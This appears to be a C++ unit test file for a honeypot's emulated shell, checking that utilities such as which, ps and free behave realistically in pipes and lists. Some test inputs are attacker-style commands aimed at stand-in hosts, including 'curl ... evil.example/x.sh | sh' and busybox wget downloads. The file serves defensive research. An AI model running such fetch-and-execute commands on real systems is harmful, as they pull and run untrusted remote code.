// The shell-extras commands through the real shell: registered (which, busybox), in pipes
// and lists, with the interpreter's exit statuses.
#include <gtest/gtest.h>

#include "honeypot/world/decky_world.hpp"
#include "support/shell_session.hpp"

namespace decnet::honeypot::shell {
namespace {

using decnet::testing::ShellSession;

TEST(ExtrasInTheShell, AreFoundWhereTheDistroKeepsThem) {
    ShellSession sh;
    EXPECT_EQ(sh.run("which wget curl ps ip free"),
              "/usr/bin/wget\n/usr/bin/curl\n/usr/bin/ps\n/usr/sbin/ip\n/usr/bin/free\n");
}

TEST(ExtrasInTheShell, WorkInPipesAndLists) {
    ShellSession sh;
    EXPECT_EQ(sh.run("nproc"), std::to_string(sh.world().host.cpu_count) + "\n");
    EXPECT_TRUE(sh.run("free -m | grep Mem").starts_with("Mem:")) << sh.run("free -m");
    EXPECT_NE(sh.run("ps aux | grep -c sshd"), "0\n");
    EXPECT_EQ(sh.run("wget -q http://evil.example/x.sh && echo ok || echo failed"), "failed\n");
    EXPECT_EQ(sh.run("curl -s http://evil.example/x.sh | sh; echo $?"), "0\n");
    EXPECT_EQ(sh.run("busybox wget http://1.2.3.4/a 2>&1 | tail -2 | head -1"), "Giving up.\n");
}

}  // namespace
}  // namespace decnet::honeypot::shell
